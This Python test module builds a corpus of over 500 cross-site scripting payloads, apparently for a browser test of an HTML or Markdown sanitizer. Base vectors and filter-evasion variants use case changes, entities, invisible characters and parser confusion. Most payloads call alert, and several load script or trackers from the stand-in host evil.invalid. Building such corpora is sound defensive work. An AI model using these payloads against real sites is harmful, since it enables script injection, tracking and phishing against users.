"""Our own corpus of XSS payloads (written here, not copied): base vectors, then variants.

Each base vector is a way to run script; each variant a way filters have been fooled
(case, entities, encodings, invisible characters, Markdown wrappers, parser confusion).
``PAYLOADS`` has at least 500 distinct strings. A payload that runs calls ``alert(N)``,
``confirm``, ``prompt`` or ``print``, or loads ``//evil.invalid``; the browser test
records all of these.
"""

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<script>confirm(2)</script>",
    "<img src=x onerror=alert(3)>",
    '<img src=x onerror="prompt(4)">',
    "<img/src/onerror=print()>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "<math href=javascript:alert(9)>click</math>",
    "<body onload=alert(10)>",
    "<iframe src=javascript:alert(11)>",
    "<iframe srcdoc='<script>alert(12)</script>'>",
    "<object data=javascript:alert(13)>",
    "<embed src=javascript:alert(14)>",
    "<a href=javascript:alert(15)>x</a>",
    "<a href='JaVaScRiPt:alert(16)'>x</a>",
    '<a href="&#106;avascript:alert(17)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(18)">x</a>',
    '<a href="java\tscript:alert(19)">x</a>',
    '<a href="vbscript:msgbox(20)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=">x</a>',
    "<form action=javascript:alert(22)><button>go</button></form>",
    "<input autofocus onfocus=alert(23)>",
    "<details open ontoggle=alert(24)>",
    "<video><source onerror=alert(25)></video>",
    "<audio src=x onerror=alert(26)>",
    "<marquee onstart=alert(27)>",
    '<div style="background:url(javascript:alert(28))">',
    "<style>@import 'javascript:alert(29)';</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(30)">',
    "<base href=//evil.invalid/>",
    '<noscript><p title="</noscript><img src=x onerror=alert(31)>">',
    "<template><img src=x onerror=alert(32)></template>",
    "<textarea></textarea><img src=x onerror=alert(33)>",
    "<title></title><img src=x onerror=alert(34)>",
    "<!--><img src=x onerror=alert(35)>-->",
    "<![CDATA[><img src=x onerror=alert(36)>]]>",
    '"><img src=x onerror=alert(37)>',
    "'><svg onload=alert(38)>",
    "</textarea><script>alert(39)</script>",
    "javascript:alert(40)",
    "[click](javascript:alert(41))",
    "[click](JAVASCRIPT:alert(42))",
    "[click](&#106;avascript:alert(43))",
    "[click](javascript&colon;alert(44))",
    '![img](x" onerror="alert(45))',
    '[a](https://ok.example" onclick="alert(46))',
    "<javascript:alert(47)>",
    '<https://ok.example/"onmouseover="alert(48)>',
    "[x]: javascript:alert(49)\n\n[y][x]",
    "`<img src=x onerror=alert(50)>`",
    "```\n</code><script>alert(51)</script>\n```",
    "> <script>alert(52)</script>",
    "* <img src=x onerror=alert(53)>",
    '<a href="https://evil.invalid/">phish</a><img src="//evil.invalid/p.png">',
    '<img src="https://evil.invalid/track.png">',
    "{{7*7}}<script>alert(54)</script>",
    "<scr<script>ipt>alert(55)</scr</script>ipt>",
    "<<script>alert(56);//<</script>",
    "<svg/onload=alert`57`>",
    "<img src=`x` onerror=alert(58)>",
    "<a id=x tabindex=1 onfocus=alert(59)></a>",
    "<isindex type=image src=1 onerror=alert(60)>",
]

INVISIBLE = ["\u200b", "\u200c", "\u200d", "\ufeff", "\u2060"]


def variants(vector):
    yield vector
    yield vector.upper()
    yield vector.swapcase()
    yield "\u202e" + vector + "\u202c"  # right-to-left override around it
    yield vector.replace("<", "<" + INVISIBLE[len(vector) % len(INVISIBLE)], 1)
    yield vector.replace("alert", "al\u200bert")
    yield "**" + vector + "**"
    yield "<p>" + vector + "</p>"
    yield vector.replace("(", "&#40;").replace(")", "&#41;")


def _corpus():
    seen = []
    for vector in BASE:
        for variant in variants(vector):
            if variant not in seen:
                seen.append(variant)
    # Polyglots: several contexts at once.
    seen += [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(61) )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(62)//>\\x3e",
        "'\"--></style></script><script>alert(63)</script>",
        "\"'><img src=x onerror=alert(64)><\"'",
    ]
    return seen


PAYLOADS = _corpus()
assert len(PAYLOADS) >= 500, len(PAYLOADS)
